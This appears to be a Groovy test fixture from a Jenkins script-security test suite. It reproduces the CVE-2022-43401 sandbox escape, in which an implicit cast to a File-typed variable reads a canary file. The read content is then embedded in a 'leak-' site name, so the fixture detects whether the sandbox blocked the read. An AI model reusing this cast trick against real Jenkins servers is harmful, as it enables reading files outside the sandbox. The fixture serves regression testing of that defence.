// class: coercion
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted)
// expect: read
// The cast also happens on a later assignment to a typed variable.
File f
f = ['@CANARY_READ@']
def v = f.collect { it }.join('|')
vmwareSite("leak-${v}") { network 'VM Network' }
